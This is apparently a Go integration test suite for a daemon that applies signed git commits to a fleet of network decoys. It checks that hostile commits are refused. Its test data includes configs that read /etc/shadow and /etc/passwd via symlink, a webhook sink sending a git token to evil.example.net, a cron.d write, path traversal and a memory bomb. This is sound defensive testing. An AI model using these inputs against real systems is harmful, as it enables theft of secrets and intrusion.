//go:build live

package main

import (
	"bufio"
	"bytes"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	chacha "math/rand/v2"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/decnet/decnet/reconciler/status"
	"github.com/decnet/decnet/schema/notification"
)

// bad is a commit that must not be applied.
type bad struct {
	name   string
	key    string // that signs it; "": ops, "-": nobody
	files  map[string]string
	make   func(f *followed) string // instead of files: makes and pushes it
	reason string
	says   string // in the message
}

func site(more string) map[string]string {
	return map[string]string{"site/main.hcl": decoysOf(fleet, 99, more)}
}

// bomb is a text of gigabytes in a few lines.
func bomb() string {
	var b strings.Builder
	b.WriteString("locals {\n  a0 = \"xxxxxxxxxxxxxxxx\"\n")
	for i := range 7 {
		fmt.Fprintf(&b, "  a%d = \"%s\"\n", i+1, strings.Repeat(fmt.Sprintf("${local.a%d}", i), 16))
	}
	return b.String() + "}\noutput \"x\" { value = length(local.a7) }\n"
}

// badCommits are refused, each in its own words.
var badCommits = []bad{
	{name: "tampered", make: (*followed).tampered, reason: "BadSignature", says: "signature"},
	{name: "unsigned", key: "-", files: site(""), reason: "Unsigned", says: "Sign it"},
	{name: "unknown signer", key: "stranger", files: site(""), reason: "UnknownSigner", says: "SHA256:"},
	{name: "outside of the signer's path", key: "team", files: site(""), reason: "OutsidePath", says: "site/main.hcl"},
	{name: "expired key", key: "expired", files: site(""), reason: "ExpiredKey", says: "old@example.com"},
	{name: "unsigned below a signed one", make: func(f *followed) string {
		f.as("")
		f.prod.Commit(map[string]string{"site/extra.hcl": "# nobody signed this\n"})
		f.as("ops")
		return f.prod.Pushed(site(""))
	}, reason: "Unsigned", says: "Sign it"},
	{name: "backwards", make: func(f *followed) string {
		f.prod.Git("reset", "-q", "--hard", "HEAD~1")
		f.prod.Push()
		return f.prod.Git("rev-parse", "HEAD")
	}, reason: "HistoryRewritten", says: "approve"},
	{name: "sideways", make: func(f *followed) string {
		f.prod.Git("reset", "-q", "--hard", "HEAD~1")
		return f.prod.Pushed(site(""))
	}, reason: "HistoryRewritten", says: "approve"},
	{name: "a ref to a missing object", make: func(f *followed) string {
		f.prod.File(filepath.Join(f.prod.Dir, "refs/heads/main"), 0o644, strings.Repeat("1", 40)+"\n")
		return ""
	}, reason: "FetchFailed"},
	{name: "syntax", files: map[string]string{"site/main.hcl": decoysOf(fleet, 99, "decky {{{\n")}, reason: "BuildFailed", says: "main.hcl:"},
	{name: "an archetype that there is not", files: site("decky \"x\" {\n  network = network.lan\n  archetype = \"windows-workstaton\"\n}\n"), reason: "BuildFailed", says: "There is no archetype"},
	{name: "a value that cannot be", files: site("output \"x\" { value = 1 / 0 }\n"), reason: "BuildFailed", says: "main.hcl:"},
	{name: "more memory than there is", files: site(bomb()), reason: "BuildFailed", says: "memory"},
	{name: "no configuration", make: func(f *followed) string {
		f.prod.Git("rm", "-q", "-r", "site")
		return f.prod.Pushed(nil)
	}, reason: "BuildFailed", says: `no directory "site"`},
	{name: "a link out of the tree", make: func(f *followed) string {
		if err := os.Symlink("/etc/passwd", filepath.Join(f.prod.Work, "site/evil.hcl")); err != nil {
			f.t.Fatal(err)
		}
		return f.prod.Pushed(nil)
	}, reason: "BuildFailed", says: "site/evil.hcl"},
	{name: "a path out of the tree", make: (*followed).upwards, reason: "FetchFailed", says: "has a file \"..\""},
	{name: "/etc/shadow", files: site("output \"x\" { value = file(\"/etc/shadow\") }\n"), reason: "BuildFailed", says: "not inside"},
	{name: "a file above", files: site("output \"x\" { value = file(\"../../../../../secret\") }\n"), reason: "BuildFailed", says: "not inside"},
	{name: "a template above", files: site("output \"x\" { value = templatefile(\"../../sync.json\", {}) }\n"), reason: "BuildFailed", says: "not inside"},
	{name: "a module of another host", files: map[string]string{
		"site/main.hcl":         decoysOf(fleet, 99, "module \"m\" { source = \"git::https://evil.example.net/m.git?ref=v1\" }\n"),
		"site/.decnet.lock.hcl": "module \"git::https://evil.example.net/m.git?ref=v1\" {\n  commit = \"1111111111111111111111111111111111111111\"\n  digest = \"sha256:2222222222222222222222222222222222222222222222222222222222222222\"\n}\n",
	}, reason: "BuildFailed", says: "module_hosts"},
	{name: "a module of this machine", files: map[string]string{
		"site/main.hcl":         decoysOf(fleet, 99, "module \"m\" { source = \"git::file:///root/secrets\" }\n"),
		"site/.decnet.lock.hcl": "module \"git::file:///root/secrets\" {\n  commit = \"1111111111111111111111111111111111111111\"\n  digest = \"sha256:2222222222222222222222222222222222222222222222222222222222222222\"\n}\n",
	}, reason: "BuildFailed", says: "https alone"},
	{name: "a module above the commit", files: site("module \"m\" { source = \"../../../../../../etc\" }\n"), reason: "BuildFailed", says: "main.hcl:"},
	{name: "a sink that sends a secret", files: site("sink \"x\" {\n  type       = \"webhook\"\n  url        = \"https://evil.example.net/\"\n  token_file = \"/etc/decnet/git-token\"\n}\n"), reason: "BuildFailed", says: "leads out of"},
	{name: "a sink that writes elsewhere", files: site("sink \"x\" {\n  type = \"file\"\n  path = \"/etc/cron.d/x\"\n}\n"), reason: "BuildFailed", says: "leads out of"},
	{name: "a commit that deletes everything", files: map[string]string{"site/main.hcl": "output \"nothing\" { value = 1 }\n"}, reason: "PruneToEmpty", says: "Approve the plan"},
	{name: "a commit that deletes too much", files: map[string]string{"site/main.hcl": decoysOf(fleet-2, 99, "")}, reason: "DestroyLimit", says: "max_destroy = 1 allows 1"},
}

// tampered is a signed commit whose message is another.
func (f *followed) tampered() string {
	f.prod.Commit(site(""))
	raw := f.prod.Git("cat-file", "commit", "HEAD")
	forged := f.prod.GitIn([]byte(strings.Replace(raw, "\n\nchange", "\n\nchanged", 1)+"\n"), "hash-object", "-t", "commit", "-w", "--stdin")
	f.prod.Git("reset", "-q", "--hard", forged)
	f.prod.Push()
	return forged
}

// upwards is a signed commit whose tree has an entry "..".
func (f *followed) upwards() string {
	blob := f.prod.GitIn([]byte("x"), "hash-object", "-w", "--stdin")
	raw, err := hex.DecodeString(blob)
	if err != nil {
		f.t.Fatal(err)
	}
	inner := f.prod.GitIn(append([]byte("100644 evil\x00"), raw...), "hash-object", "-t", "tree", "--literally", "-w", "--stdin")
	if raw, err = hex.DecodeString(inner); err != nil {
		f.t.Fatal(err)
	}
	tree := f.prod.GitIn(append([]byte("40000 ..\x00"), raw...), "hash-object", "-t", "tree", "--literally", "-w", "--stdin")
	commit := f.prod.Git("commit-tree", "-S", "-p", f.good, "-m", "upwards", tree)
	f.prod.Git("push", "-q", "-f", "origin", commit+":refs/heads/main")
	return commit
}

// TestFollowedRepositories is the life of a daemon that follows three
// repositories over git daemon, HTTPS and SSH, and what may go wrong with them.
// Whatever it is, the fleet stays as it was, heals, and takes the next good
// commit.
func TestFollowedRepositories(t *testing.T) {
	f := newFollowed(t)
	f.intact()
	for _, b := range badCommits {
		t.Run(b.name, func(t *testing.T) { f.t = t; f.refuses(b) })
	}
	for _, c := range []struct {
		name string
		do   func(*followed)
	}{
		{"vanished", (*followed).vanishes}, {"credentials", (*followed).strangers}, {"half written", (*followed).halfWritten},
		{"endless", (*followed).endless}, {"held", (*followed).held}, {"suspended", (*followed).suspends},
		{"own sinks", (*followed).ownSinks}, {"rolled back", (*followed).rollsBack}, {"elsewhere", (*followed).elsewhere}, {"openpgp", (*followed).release},
		{"dependencies", (*followed).depends}, {"webhook", (*followed).pushed}, {"policies", (*followed).policies}, {"silent", (*followed).silent},
	} {
		t.Run(c.name, func(t *testing.T) { f.t = t; c.do(f) })
	}
	f.t = t
	f.daemon(syscall.SIGTERM)
	f.intact()
	f.clear() // nothing is alive of the others
}

// refuses pushes a bad commit: it is not applied, somebody is told once, and the
// network is as it was.
func (f *followed) refuses(b bad) {
	f.goodAgain()
	switch b.key {
	case "-":
		f.as("")
	case "":
		f.as("ops")
	default:
		f.as(b.key)
	}
	commit := ""
	if b.make != nil {
		commit = b.make(f)
	} else {
		commit = f.prod.Pushed(b.files)
	}
	for range 2 { // it stays so however often it is looked at
		one := f.now("prod", b.reason, b.says)
		if one.Applied == nil || one.Applied.Commit != f.good {
			f.t.Errorf("applied is %+v, it was %s", one.Applied, f.good)
		}
		if c := one.Conditions.Get(status.Ready); c.Status != status.False || len(c.Message) < 20 {
			f.t.Errorf("%+v", c)
		}
	}
	f.intact()
	f.heals()
	told := 0
	if b.reason == "FetchFailed" {
		commit = "" // which one it is cannot be known
	}
	within(f.t, 10*time.Second, "the sink is told", func() bool {
		told = len(f.heard.of("/all", notification.Refused, commit)) + len(f.heard.of("/all", notification.Failed, commit))
		return told > 0
	})
	if commit != "" && told != 1 {
		f.t.Errorf("told %d times of %s", told, commit)
	}
	if usage := f.usage(); usage > 32<<20 {
		f.t.Errorf("%d bytes on disk", usage)
	}
	if commit != "" && b.reason != "HistoryRewritten" {
		within(f.t, 10*time.Second, "the commit's status", func() bool { s := f.heard.status(commit); return s == "failure" || s == "pending" })
	}
	f.prod.File(filepath.Join(f.prod.Dir, "refs/heads/main"), 0o644, f.good+"\n")
	f.now("prod", "Applied", f.good[:7])
}

// vanishes stops the server, then moves the repository.
func (f *followed) vanishes() {
	f.goodAgain()
	end(f.git)
	f.now("prod", "FetchFailed", "refused")
	f.intact()
	f.heals()
	f.serveGit()
	f.goodAgain()
	if err := os.Rename(f.prod.Dir, f.prod.Dir+".away"); err != nil {
		f.t.Fatal(err)
	}
	f.now("prod", "FetchFailed", "")
	f.intact()
	f.heals()
	if err := os.Rename(f.prod.Dir+".away", f.prod.Dir); err != nil {
		f.t.Fatal(err)
	}
	f.goodAgain()
}

// strangers brings a wrong token and a wrong key of the host.
func (f *followed) strangers() {
	wrong := "wrong-5b1e99d3c7"
	f.write("git-token", wrong+"\n")
	one := f.now("web", "AuthFailed", "")
	if text := fmt.Sprint(one) + f.log(); strings.Contains(text, wrong) {
		f.t.Error("the wrong token is told")
	}
	f.write("git-token", gitToken+"\n")
	f.now("web", "Applied", "")
	f.write("known_hosts", "[127.0.0.1]:9622 "+f.read("client.pub"))
	f.now("keyed", "AuthFailed", "HostKey")
	f.write("known_hosts", f.ssh.host)
	f.now("keyed", "Applied", "")
	f.web.Pushed(map[string]string{"main.hcl": fmt.Sprintf("output \"greeting\" { value = %q }\n", "after the strangers")})
	tip := f.web.Git("rev-parse", "HEAD")
	if one := f.now("web", "Applied", tip[:7]); one.Applied.Commit != tip {
		f.t.Errorf("%+v", one.Applied)
	}
	f.now("keyed", "Applied", tip[:7])
}

// halfWritten cuts a pack off.
func (f *followed) halfWritten() {
	tip := f.web.Pushed(map[string]string{"main.hcl": "output \"greeting\" { value = \"whole\" }\n", "large": rand.Text()})
	backend := f.web.Backend()
	f.https.set(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			w = &cut{ResponseWriter: w, left: 150}
		}
		backend.ServeHTTP(w, r)
	})
	one := f.now("web", "FetchFailed", "")
	if one.Applied == nil || one.Applied.Commit == tip {
		f.t.Errorf("applied is %+v", one.Applied)
	}
	f.https.set(nil)
	f.now("web", "Applied", tip[:7])
}

// cut ends a connection after some bytes.
type cut struct {
	http.ResponseWriter
	left int
}

func (c *cut) Write(p []byte) (int, error) {
	if len(p) > c.left {
		_, _ = c.ResponseWriter.Write(p[:c.left])
		if flusher, ok := c.ResponseWriter.(http.Flusher); ok {
			flusher.Flush()
		}
		panic(http.ErrAbortHandler)
	}
	c.left -= len(p)
	return c.ResponseWriter.Write(p)
}

// endless is a server that sends a pack without an end, of what cannot be
// compressed.
func (f *followed) endless() {
	before := f.usage()
	pkt := func(s string) string { return fmt.Sprintf("%04x%s", len(s)+4, s) }
	noise := make([]byte, 65000)
	sent := int64(0)
	f.https.set(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			tip := strings.Repeat("7", 40)
			w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
			_, _ = io.WriteString(w, pkt("# service=git-upload-pack\n")+"0000"+pkt(tip+" HEAD\x00symref=HEAD:refs/heads/main side-band-64k\n")+pkt(tip+" refs/heads/main\n")+"0000")
			return
		}
		w.Header().Set("Content-Type", "application/x-git-upload-pack-result")
		_, _ = io.WriteString(w, pkt("NAK\n")+pkt("\x01PACK\x00\x00\x00\x02\x00\x00\x00\x05"))
		for source := chacha.NewChaCha8([32]byte{}); sent < 4<<30; {
			_, _ = source.Read(noise)
			n, err := io.WriteString(w, pkt("\x01"+string(noise)))
			if sent += int64(n); err != nil {
				return
			}
		}
	})
	memory, disk := f.peak(func() { f.now("web", "TooLarge", "max_size") })
	f.t.Logf("the server sent %d MB; the daemon had %d MB of memory and %d MB on disk at most, %d KB before", sent>>20, memory>>20, disk>>20, before>>10)
	if memory > 200<<20 || disk > before+100<<20 || sent > 128<<20 {
		f.t.Error("it is not bounded")
	}
	f.intact()
	f.heals()
	f.https.set(nil)
	tip := f.web.Pushed(map[string]string{"main.hcl": "output \"greeting\" { value = \"small again\" }\n"})
	f.now("web", "Applied", tip[:7])
	if after := f.usage(); after > before+4<<20 {
		f.t.Errorf("%d bytes on disk, %d before", after, before)
	}
}

// held approves what a fuse holds: a stale id is refused, the right one is done.
func (f *followed) held() {
	f.goodAgain()
	commit := f.prod.Pushed(map[string]string{"site/main.hcl": decoysOf(fleet-2, 7, "")})
	first := f.now("prod", "DestroyLimit", "").Pending
	commit2 := f.prod.Pushed(map[string]string{"site/main.hcl": decoysOf(fleet-3, 8, "")})
	second := f.now("prod", "DestroyLimit", "replaces 3 of 7").Pending
	if first == nil || second == nil || first.ID == second.ID || first.Revision.Commit != commit || second.Revision.Commit != commit2 {
		f.t.Fatalf("%+v, then %+v", first, second)
	}
	for _, id := range []string{first.ID, "000000000000"} {
		if _, stderr, code := f.try("sync", "approve", "prod", id, "--file", f.file); code != 1 || !strings.Contains(stderr, second.ID) {
			f.t.Errorf("approve %s: %d %s", id, code, stderr)
		}
	}
	f.intact()
	f.must("sync", "approve", "prod", second.ID, "--file", f.file)
	f.becomes("prod", "Applied", commit2[:7], 40*time.Second)
	if found, _ := filepath.Glob(filepath.Join(f.lab.Dir, "run", "*", "netns", "kept-*")); len(found) != fleet-3 {
		f.t.Errorf("alive: %v", found)
	}
	f.good = commit2
	f.goodAgain() // the others are back, in new namespaces
	within(f.t, 20*time.Second, "they answer", func() bool { return strings.HasPrefix(f.banner(fmt.Sprintf("10.77.0.%d:22", 19+fleet)), "SSH-") })
	for i := range fleet {
		f.ids[deckyName(i)] = f.namespaceID(deckyName(i))
	}
	f.intact()
}

// suspends leaves everything alone until it is resumed.
func (f *followed) suspends() {
	f.goodAgain()
	f.must("sync", "suspend", "prod", "--reason", "we look into it", "--file", f.file)
	f.becomes("prod", "Suspended", "we look into it", 10*time.Second)
	next := f.prod.Pushed(map[string]string{"site/main.hcl": decoysOf(fleet, 50, "")})
	if _, stderr, code := f.try("sync", "now", "prod", "--file", f.file); code != 1 || !strings.Contains(stderr, "suspended") {
		f.t.Errorf("now: %d %s", code, stderr)
	}
	if out, err := exec.Command("nsenter", "--net="+f.netns(deckyName(0)), "ip", "link", "del", "eth0").CombinedOutput(); err != nil {
		f.t.Fatalf("%v %s", err, out)
	}
	time.Sleep(2 * time.Second)
	if f.hasLink(deckyName(0)) {
		f.t.Error("it is healed while it is suspended")
	}
	if one := f.sync(f.file, "prod"); one.Applied.Commit != f.good {
		f.t.Errorf("%+v was applied", one.Applied)
	}
	f.must("sync", "resume", "prod", "--file", f.file)
	f.becomes("prod", "Applied", next[:7], 40*time.Second)
	within(f.t, 20*time.Second, "it is healed", func() bool { return f.hasLink(deckyName(0)) })
	f.good = next
	f.intact()
}

// ownSinks tells a sink in the repository of its own sync, with a secret that is
// meant for it.
func (f *followed) ownSinks() {
	f.goodAgain()
	own := "sink \"own\" {\n  type        = \"webhook\"\n  url         = \"http://127.0.0.1:9500/own\"\n  secret_file = \"sink\"\n}\n"
	f.good = f.prod.Pushed(map[string]string{"site/main.hcl": decoysOf(fleet, 60, own)})
	f.now("prod", "Applied", f.good[:7])
	within(f.t, 10*time.Second, "the own sink is told that it is applied", func() bool { return len(f.heard.of("/own", notification.Applied, f.good)) == 1 })
	f.heard.mu.Lock()
	body, header := f.heard.bodies["/own"], f.heard.headers["/own"]
	f.heard.mu.Unlock()
	got := header.Get("X-Decnet-Signature")
	at, proof, _ := strings.Cut(strings.TrimPrefix(got, "t="), ",v1=")
	mac := hmac.New(sha256.New, []byte(sinkSecret))
	mac.Write([]byte(at + "."))
	mac.Write(body)
	if proof != hex.EncodeToString(mac.Sum(nil)) {
		f.t.Errorf("signature %q", got)
	}
	f.heals()
	within(f.t, 10*time.Second, "the own sink is told of drift", func() bool { return len(f.heard.of("/own", notification.Drifted, "")) == 1 })
	if all := f.heard.of("/own", notification.Drifted, ""); all[0].Sync != "prod" || all[0].Address == "" {
		f.t.Errorf("%+v", all[0])
	}
	web := f.web.Pushed(map[string]string{"main.hcl": "output \"greeting\" { value = \"of web\" }\n"})
	f.now("web", "Applied", web[:7])
	within(f.t, 10*time.Second, "the daemon's sink is told of web", func() bool { return len(f.heard.of("/all", notification.Applied, web)) == 1 })
	if got := f.heard.of("/own", notification.Applied, web); len(got) > 0 {
		f.t.Errorf("the sink of prod is told of web: %+v", got)
	}
	f.goodAgain()
	time.Sleep(500 * time.Millisecond)
	if got := f.heard.of("/own", notification.Applied, f.good); len(got) > 0 {
		f.t.Errorf("a sink that is gone is told: %+v", got)
	}
}

// rollsBack lets an apply fail in its middle: where the namespace of a new decky
// is to be pinned, something stands in the way.
func (f *followed) rollsBack() {
	f.goodAgain()
	obstacle := filepath.Join(filepath.Dir(f.netns(deckyName(0))), deckyName(fleet))
	if err := os.Mkdir(obstacle, 0o755); err != nil {
		f.t.Fatal(err)
	}
	failing := f.prod.Pushed(map[string]string{"site/main.hcl": decoysOf(fleet+1, 70, "")})
	one := f.now("prod", "RolledBack", f.good[:7])
	if one.Applied.Commit != f.good {
		f.t.Errorf("applied is %+v", one.Applied)
	}
	if err := os.RemoveAll(obstacle); err != nil {
		f.t.Fatal(err)
	}
	f.intact()
	f.heals()
	within(f.t, 10*time.Second, "it is told once", func() bool { return len(f.heard.of("/all", notification.RolledBack, failing)) == 1 })
	f.goodAgain()
}

// elsewhere lets a commit say where state and secret stand: it is passed over.
func (f *followed) elsewhere() {
	f.goodAgain()
	secret := f.at("not-there/secret")
	text := strings.Replace(decoysOf(fleet, 75, ""), "  runtime = \"native\"\n", fmt.Sprintf("  runtime = \"native\"\n  state   = \"/elsewhere/state.db\"\n  secret  = %q\n", secret), 1)
	f.good = f.prod.Pushed(map[string]string{"site/main.hcl": text})
	f.now("prod", "Applied", f.good[:7])
	for _, path := range []string{"/elsewhere", filepath.Dir(secret)} {
		if _, err := os.Stat(path); err == nil {
			f.t.Errorf("a commit had %s made", path)
		}
	}
	if !strings.Contains(f.log(), "passed over") {
		f.t.Error("nobody was told")
	}
	f.intact()
	f.heals()
}

// release applies a commit that gpg signed.
func (f *followed) release() {
	f.goodAgain()
	f.prod.Git("config", "gpg.format", "openpgp")
	f.prod.Git("config", "user.signingKey", "release@example.com")
	f.good = f.prod.Pushed(map[string]string{"site/main.hcl": decoysOf(fleet, 80, "")})
	if one := f.now("prod", "Applied", f.good[:7]); !strings.Contains(one.Applied.Signer, "release") {
		f.t.Errorf("%+v", one.Applied)
	}
	f.intact()
}

// depends holds back what depends on a sync that is not ready, and reports a
// circle.
func (f *followed) depends() {
	before := f.sync(f.file, "web").Applied.Commit
	f.web.Pushed(map[string]string{"main.hcl": "output {\n"})
	f.must("sync", "now", "keyed", "--file", f.file)
	f.becomes("web", "BuildFailed", "main.hcl:", 20*time.Second)
	f.now("keyed", "DependencyNotReady", "sync.web")
	tip := f.web.Pushed(map[string]string{"main.hcl": "output \"greeting\" { value = \"in order\" }\n"})
	f.must("sync", "now", "keyed", "--file", f.file) // it asks web to look first
	f.becomes("keyed", "Applied", tip[:7], 20*time.Second)
	f.becomes("web", "Applied", tip[:7], 20*time.Second)
	if before == tip {
		f.t.Error("nothing was new")
	}
	circle := strings.Replace(f.read("sync.hcl"), "sync \"web\" {", "sync \"web\" {\n  depends_on = [sync.keyed]", 1)
	f.write("circle.hcl", circle)
	if stdout, stderr, code := f.try("reconcile", "--file", f.at("circle.hcl")); code != 1 || !strings.Contains(stdout+stderr, "keyed") || !strings.Contains(stdout+stderr, "web") || !strings.Contains(stdout+stderr, "circle") {
		f.t.Errorf("%d %s%s", code, stdout, stderr)
	}
}

// pushed wakes the daemon as GitHub would.
func (f *followed) pushed() {
	f.goodAgain()
	f.good = f.prod.Pushed(map[string]string{"site/main.hcl": decoysOf(fleet, 90, "")})
	body := `{"ref":"refs/heads/main","repository":{"full_name":"net/decoys","clone_url":"git://127.0.0.1:9418/net/decoys.git","html_url":"git://127.0.0.1:9418/net/decoys"}}`
	mac := hmac.New(sha256.New, []byte(hookSecret))
	mac.Write([]byte(body))
	send := func(signature string) string {
		return f.attackOperator("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", "Content-Type: application/json", "-H", "X-GitHub-Event: push",
			"-H", "X-GitHub-Delivery: "+rand.Text(), "-H", "X-Hub-Signature-256: sha256="+signature, "--data-binary", body, "http://127.0.0.1:9443/hooks/git")
	}
	if code := send(strings.Repeat("0", 64)); !strings.HasPrefix(code, "4") {
		f.t.Errorf("a forged push: %s", code)
	}
	time.Sleep(500 * time.Millisecond)
	if f.sync(f.file, "prod").Applied.Commit == f.good {
		f.t.Fatal("it was applied before anybody said so")
	}
	began := time.Now()
	if code := send(hex.EncodeToString(mac.Sum(nil))); !strings.HasPrefix(code, "2") {
		f.t.Fatalf("a push: %s", code)
	}
	f.becomes("prod", "Applied", f.good[:7], 20*time.Second)
	f.t.Logf("applied %s after the push", time.Since(began).Round(time.Millisecond))
	within(f.t, 10*time.Second, "the commit's status is success", func() bool { return f.heard.status(f.good) == "success" })
	f.heard.mu.Lock()
	defer f.heard.mu.Unlock()
	if len(f.heard.tokens) != 1 || !f.heard.tokens["Bearer "+statusToken] && !f.heard.tokens["token "+statusToken] {
		f.t.Errorf("the API was shown %d tokens", len(f.heard.tokens))
	}
	if path := f.heard.statuses[len(f.heard.statuses)-1]["path"]; path != "/api/repos/net/decoys/statuses/"+f.good {
		f.t.Errorf("the status went to %s", path)
	}
}

// policies replaces the policy while the daemon runs.
func (f *followed) policies() {
	f.goodAgain()
	step := func(round int, blocks, reason, says string, after func(commit string, one status.Sync)) {
		f.t.Helper()
		f.reload(blocks)
		commit := f.prod.Pushed(map[string]string{"site/main.hcl": decoysOf(fleet, round, fmt.Sprintf("rule \"r%d\" {\n  technique = \"T1110\"\n  when      = event.kind == \"auth.attempt\"\n}\n", round))})
		f.must("sync", "now", "prod", "--file", f.file)
		within(f.t, 20*time.Second, "the commit is looked at", func() bool { a := f.sync(f.file, "prod").Attempted; return a != nil && a.Commit == commit })
		one := f.becomes("prod", reason, says, 10*time.Second)
		if one.Applied == nil || one.Applied.Commit != f.good {
			f.t.Errorf("%s: %+v was applied", reason, one.Applied)
		}
		f.intact()
		after(commit, one)
	}
	step(100, "window \"freeze\" {\n    mode = \"deny\"\n  }\n", "OutsideWindow", "", func(string, status.Sync) { f.heals() })
	step(101, "policy = \"observe\"\n", "Differs", "observe", func(string, status.Sync) {})
	step(102, "policy = \"manual\"\n", "AwaitingApproval", "manual", func(commit string, one status.Sync) {
		f.heals()
		f.must("sync", "approve", "prod", one.Pending.ID, "--file", f.file)
		f.becomes("prod", "Applied", commit[:7], 40*time.Second)
		f.good = commit
	})
	f.reload("max_destroy = 1\n  rollback = true\n")
	f.goodAgain()
	f.intact()
}

// TestFollowedTwoGigabytes follows repositories that really have 2 GB, with the
// daemon's whole fleet alive.
func TestFollowedTwoGigabytes(t *testing.T) {
	f := newFollowed(t)
	before := f.usage()
	cmd := exec.Command("git", "-c", "core.compression=0", "-c", "core.bigFileThreshold=1m", "fast-import", "--quiet", "--force")
	cmd.Dir, cmd.Stderr = f.web.Dir, os.Stderr
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriterSize(in, 1<<20)
	fmt.Fprintf(w, "commit refs/heads/main\ncommitter C <c@example.org> 1 +0000\ndata 1\nm\nfrom %s\nM 100644 inline huge\ndata %d\n", f.web.Git("rev-parse", "main"), 2<<30)
	chunk, source := make([]byte, 1<<20), chacha.NewChaCha8([32]byte{})
	for range 2 << 10 {
		_, _ = source.Read(chunk)
		if _, err := w.Write(chunk); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(w.Flush(), in.Close(), cmd.Wait()); err != nil {
		t.Fatal(err)
	}
	memory, disk := f.peak(func() {
		f.must("sync", "now", "web", "--file", f.file)
		f.becomes("web", "TooLarge", "max_size", 3*time.Minute)
	})
	t.Logf("the daemon had %d MB of memory and %d MB on disk at most", memory>>20, disk>>20)
	if memory > 200<<20 || disk > before+100<<20 || bytes.Contains([]byte(f.log()), []byte("panic")) {
		t.Error("it is not bounded")
	}
	f.intact()
	f.heals()
	f.goodAgain()
	f.daemon(syscall.SIGTERM)
	f.clear()
}
